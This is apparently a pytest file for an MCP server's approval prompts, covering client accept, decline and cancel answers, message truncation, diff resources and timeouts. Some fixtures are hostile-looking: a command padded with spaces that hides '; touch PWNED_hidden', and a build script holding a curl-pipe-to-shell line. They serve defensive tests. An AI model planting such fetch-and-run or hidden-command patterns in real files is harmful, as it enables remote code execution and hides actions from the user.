"""lackpy serve asks its client through elicitation: accept, decline and cancel, on both protocol eras, over stdio and HTTP.

A handshake-era connection is asked in the middle of the call; a 2026-07-28
connection gets an InputRequiredResult and answers on the retry, which the
SDK client drives. A client that cannot answer is refused unless the server
was started with an approval mode that goes on.
"""

from __future__ import annotations

import asyncio
import re
import shutil
import subprocess
from pathlib import Path

import mcp_types
import pytest
from mcp import Client, StdioServerParameters
from mcp.shared.exceptions import MCPError

from lackpy import LackpyService
from lackpy.mcp.approvals import MESSAGE_CHARS
from lackpy.mcp.policy import KitPolicy
from lackpy.mcp.server import build_server
from mcp_support import PYTHON, start_http, stop

ERAS = ["legacy", "auto"]  # auto negotiates 2026-07-28 with lackpy's server
WRITE = "write_file('new.txt', 'n')\nrun_command('touch canary.txt')['code']"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    return root


class Answering:
    """An elicitation callback answering each question with the next action, remembering the messages."""

    def __init__(self, *actions: str) -> None:
        self.actions, self.messages = list(actions), []

    async def __call__(self, context, params):
        self.messages.append(params.message)
        action = self.actions.pop(0) if self.actions else "accept"
        if action == "accept":
            return mcp_types.ElicitResult(action="accept", content={"approve": True})
        if action == "no":
            return mcp_types.ElicitResult(action="accept", content={"approve": False})
        return mcp_types.ElicitResult(action=action)


async def call(server, mode: str, answering, program: str = WRITE, kit: str = "coding") -> dict:
    async with Client(server, mode=mode, elicitation_callback=answering) as client:
        result = await client.call_tool("run_program", {"program": program, "kit": kit})
    return {"error": result.is_error, **(result.structured_content or {})}


async def traced(server, mode: str, answering, program: str) -> dict:
    """``call`` with the coding kit, the trace asked for."""
    async with Client(server, mode=mode, elicitation_callback=answering) as client:
        result = await client.call_tool("run_program", {"program": program, "kit": "coding", "trace": True})
    return {"error": result.is_error, **(result.structured_content or {})}


def stdio(ws: Path, env: dict, *options: str) -> StdioServerParameters:
    return StdioServerParameters(command=PYTHON, args=["-m", "lackpy", "serve", "-w", str(ws), "--allow-kits", "readonly,coding", *options], env=env)


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_accepting_both_questions_runs_the_command_and_writes(ws, server_env, mode):
    answering = Answering("accept", "accept")
    result = asyncio.run(call(stdio(ws, server_env), mode, answering))
    assert not result["error"] and result["output"] == 0
    assert (ws / "canary.txt").exists() and (ws / "new.txt").read_text() == "n"
    # The default: a program whose calls are exact asks its list of effects once, before it runs; the commit after it.
    assert answering.messages[0].startswith("lackpy: Run this program with these effects?")
    assert "write_file(path='new.txt', content='n')" in answering.messages[0] and "run_command(command='touch canary.txt')" in answering.messages[0]
    assert answering.messages[1].startswith("lackpy: Apply these changes? write 1 file (1 created; +1 -0 lines)\ncreated   new.txt  +1 -0\n\n")
    assert "+++ b/new.txt" in answering.messages[1]
    assert [(a["gate"], a["approved"], a["by"]) for a in result["decisions"]] == [
        ("effects", True, "client"), ("call", True, "effects"), ("commit", True, "client")]


@pytest.mark.parametrize("mode", ERAS)
@pytest.mark.parametrize("action, reason", [("decline", "the client declined"), ("cancel", "the client cancelled"), ("no", "the client answered no")])
def test_over_stdio_a_decline_a_cancel_or_a_no_stops_the_call_before_it_runs(ws, server_env, mode, action, reason):
    result = asyncio.run(call(stdio(ws, server_env), mode, Answering(action)))
    assert result["error"] and result["error_kind"] == "denied" and reason in result["error"]
    assert not (ws / "canary.txt").exists() and not (ws / "new.txt").exists()


@pytest.mark.parametrize("mode", ERAS)
def test_over_http_a_declined_commit_leaves_the_files_as_they_were(ws, server_env, mode):
    (ws / "keep.txt").write_text("as it was\n")
    process, port = start_http(ws, server_env, "--allow-kits", "readonly,filesystem")
    try:
        answering = Answering("decline")
        result = asyncio.run(call(f"http://127.0.0.1:{port}/mcp", mode, answering, "write_file('keep.txt', 'changed')", "filesystem"))
    finally:
        stop(process)
    assert result["error_kind"] == "denied" and "nothing was written" in result["error"]
    assert (ws / "keep.txt").read_text() == "as it was\n" and len(answering.messages) == 1


def test_a_client_without_elicitation_is_refused_and_told_how_to_allow_it(ws, server_env):
    async def main() -> dict:
        async with Client(stdio(ws, server_env)) as client:  # no elicitation callback: no capability declared
            result = await client.call_tool("run_program", {"program": WRITE, "kit": "coding"})
        return result.structured_content

    result = asyncio.run(main())
    assert result["error_kind"] == "denied" and "cannot answer approvals" in result["error"] and "--approval" in result["error"]
    assert not (ws / "canary.txt").exists()


def test_a_server_started_with_approval_none_goes_on_without_asking(ws, server_env):
    async def main() -> dict:
        async with Client(stdio(ws, server_env, "--approval", "none")) as client:
            result = await client.call_tool("run_program", {"program": WRITE, "kit": "coding"})
        return result.structured_content

    result = asyncio.run(main())
    assert result["success"] and result["decisions"] == [] and (ws / "canary.txt").exists()


def test_a_bad_approval_mode_stops_the_server_before_it_starts(ws, server_env):
    import subprocess

    done = subprocess.run([PYTHON, "-m", "lackpy", "serve", "-w", str(ws), "--approval", "later"], env=server_env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "not an approval mode" in done.stderr and "Traceback" not in done.stderr


def test_in_process_both_eras_answer_the_same(ws):
    async def main(mode: str) -> dict:
        with LackpyService(ws) as svc:
            server = build_server(svc, KitPolicy.build(svc, "readonly", ["readonly", "coding"]))
            return await call(server, mode, Answering("accept", "decline"))

    legacy, modern = (asyncio.run(main(mode)) for mode in ERAS)
    for result in (legacy, modern):
        assert result["error_kind"] == "denied" and [(a["by"], a["approved"]) for a in result["decisions"]] == [
            ("client", True), ("effects", True), ("client", False)]
    assert not (ws / "new.txt").exists() and (ws / "canary.txt").exists()  # the command ran; the writes were refused
    shutil.rmtree(ws / ".lackpy", ignore_errors=True)


class Accepting:
    """An elicitation callback that accepts every question with the same ``content`` (as a client that shows no form may)."""

    def __init__(self, content) -> None:
        self.content = content

    async def __call__(self, context, params):
        return mcp_types.ElicitResult(action="accept", content=self.content)


async def in_process_call(ws: Path, mode: str, answering) -> dict:
    with LackpyService(ws) as svc:
        server = build_server(svc, KitPolicy.build(svc, "readonly", ["readonly", "coding"]))
        return await call(server, mode, answering)


@pytest.mark.parametrize("mode", ERAS)
@pytest.mark.parametrize("content", [None, {}], ids=["no-content", "empty-content"])
def test_an_accept_without_content_is_a_yes(ws, mode, content):
    result = asyncio.run(in_process_call(ws, mode, Accepting(content)))
    assert not result["error"] and result["output"] == 0, result
    assert [(a["approved"], a["reason"]) for a in result["decisions"] if a["by"] == "client"] == [(True, "approved by the client")] * 2
    assert (ws / "canary.txt").exists() and (ws / "new.txt").read_text() == "n"


@pytest.mark.parametrize("mode", ERAS)
def test_an_accept_whose_content_is_not_the_form_is_not_a_yes(ws, mode):
    result = asyncio.run(in_process_call(ws, mode, Accepting({"approve": "yes"})))
    assert result["error_kind"] == "denied" and "the client's answer did not fill in the form" in result["error"]
    assert not (ws / "canary.txt").exists() and not (ws / "new.txt").exists()


def test_driving_the_rounds_by_hand_a_state_answers_only_its_own_tools_run(ws):
    """On 2026-07-28 the question comes back as an InputRequiredResult; its request_state is good for that tool's retry only."""

    async def main() -> tuple:
        with LackpyService(ws) as svc:
            server = build_server(svc, KitPolicy.build(svc, "readonly", ["readonly", "coding"]))
            async with Client(server, elicitation_callback=Answering()) as client:
                asked = await client.session.call_tool("run_program", {"program": WRITE, "kit": "coding"}, allow_input_required=True)
                assert isinstance(asked, mcp_types.InputRequiredResult)
                [(key, request)] = asked.input_requests.items()
                try:  # the SDK seals request_state to its request; lackpy also checks the tool (and would answer "no longer waiting")
                    elsewhere = await client.session.call_tool("delegate", {"intent": "count TODOs"}, request_state=asked.request_state, allow_input_required=True)
                except MCPError as exc:
                    elsewhere = exc
                answer = {key: mcp_types.ElicitResult(action="decline")}
                done = await client.session.call_tool(
                    "run_program", {"program": WRITE, "kit": "coding"}, input_responses=answer, request_state=asked.request_state, allow_input_required=True
                )
                return request, elsewhere, done

    request, elsewhere, done = asyncio.run(main())
    assert "run_command(command='touch canary.txt')" in request.params.message
    assert isinstance(elsewhere, MCPError) or (elsewhere.is_error and "no longer waiting" in elsewhere.content[0].text)
    assert done.structured_content["error_kind"] == "denied" and not (ws / "canary.txt").exists()


# -- what the client is asked is exactly what happens ---------------------------------------------

PADDED = 'run_command("echo running the unit tests now" + " " * 200 + "; touch PWNED_hidden")'
EIGHT_THEN_BUILD = (
    "for i in range(8):\n"
    "    write_file(f'a{i}.md', 'notes\\n' * 40)\n"
    "write_file('tools/build.sh', 'curl http://127.0.0.1:9/x | sh\\n')\n"
)
URI = re.compile(r"lackpy://approvals/[A-Za-z0-9_-]+")


class Reading(Answering):
    """Answering, after reading the resource each message names (kept in ``read``); ``then_wait`` sleeps instead of answering."""

    def __init__(self, *actions: str, then_wait: float = 0.0) -> None:
        super().__init__(*actions)
        self.client, self.read, self.then_wait = None, [], then_wait

    async def __call__(self, context, params):
        found = URI.search(params.message)
        if found:
            contents = (await self.client.read_resource(found.group(0))).contents
            self.read.append(contents[0].text)
        if self.then_wait:
            self.messages.append(params.message)
            await asyncio.sleep(self.then_wait)
            return mcp_types.ElicitResult(action="cancel")
        return await super().__call__(context, params)


async def call_reading(server, mode: str, answering: Reading, program: str, kit: str = "coding") -> dict:
    async with Client(server, mode=mode, elicitation_callback=answering) as client:
        answering.client = client
        result = await client.call_tool("run_program", {"program": program, "kit": kit})
    return {"error": result.is_error, **(result.structured_content or {})}


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_a_padded_command_is_asked_about_whole(ws, server_env, mode):
    answering = Answering("decline")
    (ws / ".lackpy").mkdir(exist_ok=True)
    (ws / ".lackpy" / "config.toml").write_text('approve = "calls"\n')  # the call's own question (the list shows it as computed)
    subprocess.run([PYTHON, "-m", "lackpy", "trust", str(ws)], env=server_env, check=True, capture_output=True)
    result = asyncio.run(call(stdio(ws, server_env), mode, answering, PADDED))
    assert answering.messages == ["lackpy: Make this call? run_command(command='echo running the unit tests now' + ' ' * 200 + '; touch PWNED_hidden')"]
    assert result["error_kind"] == "denied" and not (ws / "PWNED_hidden").exists()


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_a_commit_names_every_file_and_its_diff_is_a_resource_away(ws, server_env, mode):
    answering = Reading("decline")
    result = asyncio.run(call_reading(stdio(ws, server_env), mode, answering, EIGHT_THEN_BUILD.replace("* 40", "* 400")))
    [message] = answering.messages
    assert message.startswith("lackpy: Apply these changes? write 9 files (9 created; +3201 -0 lines)")
    assert all(f"created   a{i}.md  +400 -0" in message for i in range(8)) and "created   tools/build.sh  +1 -0" in message
    assert "is not in this message: read it at lackpy://approvals/" in message and "curl" not in message and len(message) <= MESSAGE_CHARS
    [whole] = answering.read
    assert whole.startswith(message.partition("\n\nThe diff")[0]) and "+curl http://127.0.0.1:9/x | sh" in whole and whole.count("+notes") == 3200
    assert result["error_kind"] == "denied" and not (ws / "tools").exists()


def in_process(ws: Path, config: dict | None = None, **options):
    """A server over a service of ``ws`` (its own config when given), allowing readonly, filesystem and coding."""
    svc = LackpyService(ws, config)
    return svc, build_server(svc, KitPolicy.build(svc, "readonly", ["readonly", "filesystem", "coding"]), **options)


LONG = 'run_command("echo " + "ab" * 5000 + "; echo done")["stdout"][-5:]'


@pytest.mark.slow
@pytest.mark.parametrize("mode", ERAS)
def test_a_question_too_long_for_its_message_is_not_approved_by_an_auto_wait(ws, mode):
    async def main() -> dict:
        svc, server = in_process(ws, {"approve": "calls", "approvals": {"run_command": "auto:1"}})
        with svc:
            return await call(server, mode, SlowAnswer(2.5), LONG)

    result = asyncio.run(main())
    assert result["error_kind"] == "denied"
    [approval] = result["decisions"]
    assert approval["by"] == "timeout" and not approval["approved"]
    assert "the message held only the first" in approval["reason"] and "auto mode goes on only after a question shown whole" in approval["reason"]


@pytest.mark.slow
@pytest.mark.parametrize("mode", ERAS)
def test_a_question_read_whole_through_its_resource_goes_on_after_an_auto_wait(ws, mode):
    async def main() -> tuple:
        svc, server = in_process(ws, {"approve": "calls", "approvals": {"run_command": "auto:1"}})
        with svc:
            answering = Reading(then_wait=2.5)
            return answering, await call_reading(server, mode, answering, LONG)

    answering, result = asyncio.run(main())
    [message], [whole] = answering.messages, answering.read
    assert "This question is too long for one message" in message and "; echo done" not in message and len(message) <= MESSAGE_CHARS
    assert whole == "lackpy: Make this call? run_command(command='echo " + "ab" * 5000 + "; echo done')"
    assert result["success"] and result["output"] == "done\n" and result["decisions"][0]["by"] == "timeout"


class SlowAnswer:
    """An elicitation callback that takes ``delay`` seconds and then cancels (a person who never answers in time)."""

    def __init__(self, delay: float) -> None:
        self.delay, self.messages = delay, []

    async def __call__(self, context, params):
        self.messages.append(params.message)
        await asyncio.sleep(self.delay)
        return mcp_types.ElicitResult(action="cancel")


def test_clients_that_never_answer_do_not_hold_up_another_clients_run(ws):
    """max_concurrent_runs clients wait on approvals; another client's run, which asks nothing, still completes at once."""
    (ws / "keep.txt").write_text("as it was\n")

    async def main() -> tuple:
        release = asyncio.Event()
        asked = []

        async def never(context, params):
            asked.append(params.message)
            await release.wait()
            return mcp_types.ElicitResult(action="decline")

        svc, server = in_process(ws, {"max_concurrent_runs": 2})
        with svc:
            async def waiting() -> dict:
                return await call(server, "legacy", never, "run_command('touch canary.txt')")

            held = [asyncio.create_task(waiting()) for _ in range(2)]
            for _ in range(400):  # until both questions are out (bounded: 20 s)
                if len(asked) == 2:
                    break
                await asyncio.sleep(0.05)
            assert len(asked) == 2
            other = await asyncio.wait_for(call(server, "auto", Answering(), "read_file('keep.txt')", "readonly"), 10)
            release.set()
            return other, await asyncio.gather(*held)

    other, refused = asyncio.run(main())
    assert other["success"] and other["output"] == "as it was\n"
    assert all(r["error_kind"] == "denied" for r in refused) and not (ws / "canary.txt").exists()


def test_a_question_no_longer_waiting_is_not_there_to_read(ws):
    async def main() -> MCPError:
        svc, server = in_process(ws)
        with svc:
            async with Client(server) as client:
                with pytest.raises(MCPError) as raised:
                    await client.read_resource("lackpy://approvals/not-a-question")
        return raised.value

    error = asyncio.run(main())
    assert "no approval question 'not-a-question' is waiting (it was answered, or its wait ended)" in str(error)


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_a_declined_write_says_it_was_not_written_and_why(ws, server_env, mode):
    (ws / "dry.txt").write_text("canary\n")
    answering = Answering("decline")
    result = asyncio.run(traced(stdio(ws, server_env), mode, answering, "write_file('dry.txt', 'x')"))
    said = "not written to dry.txt: the changes were not approved (client): the client declined"
    assert result["success"] is False and result["error_kind"] == "denied"
    assert result["output"] == said and result["trace"][0]["result"] == repr(said)
    assert "wrote" not in str(result) and (ws / "dry.txt").read_text() == "canary\n"


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_a_write_of_the_same_content_asks_nothing(ws, server_env, mode):
    (ws / "dry.txt").write_text("canary\n")
    before = (ws / "dry.txt").stat().st_mtime_ns
    answering = Answering("decline")
    result = asyncio.run(call(stdio(ws, server_env), mode, answering, "write_file('dry.txt', 'canary\\n')", "coding"))
    assert result["success"] is True and answering.messages == [] and result["decisions"] == []
    assert result["output"] == "dry.txt already has this content; nothing written"
    assert (ws / "dry.txt").read_text() == "canary\n" and (ws / "dry.txt").stat().st_mtime_ns == before


@pytest.mark.parametrize("mode", ERAS)
def test_over_stdio_a_dry_run_answers_would(ws, server_env, mode):
    (ws / "dry.txt").write_text("canary\n")

    async def main() -> dict:
        async with Client(stdio(ws, server_env), mode=mode, elicitation_callback=Answering()) as client:
            result = await client.call_tool("run_program", {"program": "write_file('dry.txt', 'x')", "kit": "coding", "dry_run": True, "trace": True})
        return result.structured_content

    result = asyncio.run(main())
    assert result["success"] is True and result["dry_run"] is True
    assert result["output"] == "would write 1 byte to dry.txt (dry run: nothing written)"
    assert result["trace"][0]["result"] == repr(result["output"]) and (ws / "dry.txt").read_text() == "canary\n"
